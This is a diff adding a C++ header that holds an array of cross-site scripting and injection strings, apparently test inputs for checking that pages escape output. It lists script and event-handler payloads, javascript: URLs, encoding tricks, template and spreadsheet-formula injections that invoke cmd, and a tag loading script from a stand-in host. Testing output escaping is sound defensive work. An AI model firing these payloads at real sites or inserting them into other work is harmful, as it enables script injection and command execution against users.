@@ -1,0 +1,73 @@
+#pragma once
+
+// Texts that break out of pages which forget to escape, for the tests of this folder. Written
+// after the kinds that the OWASP cheat sheets describe: tags, attributes, addresses, comments,
+// style, script ends, encodings, templates, formulas.
+
+#include <string_view>
+
+namespace synoptic {
+
+inline constexpr std::string_view kPayloads[] = {
+    "<script>alert(1)</script>",
+    "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<!--<script>alert(1)</script>-->",
+    "--><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<base href=javascript:alert(1)//>",
+    "<form action=javascript:alert(1)><input type=submit>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<div style=\"background:url(javascript:alert(1))\">",
+    "<table background=javascript:alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script\n>alert(1)</script\n>",
+    "<script/x>alert(1)</script>",
+    "<<script>alert(1)//<</script>",
+    "\" onmouseover=\"alert(1)",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "x\" tabindex=1 onfocus=\"alert(1)\" id=\"x",
+    "javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\xC0\xBCscript\xC0\xBE",
+    "\xFF\xFE<script>alert(1)</script>",
+    "<a|b\n| c | d\n\n# x",
+    "[x](javascript:alert(1))",
+    "![x](x \"onerror=alert(1)\")",
+    "{{constructor.constructor('alert(1)')()}}",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a,\"b\r\nc\",\"",
+};
+
+}  // namespace synoptic
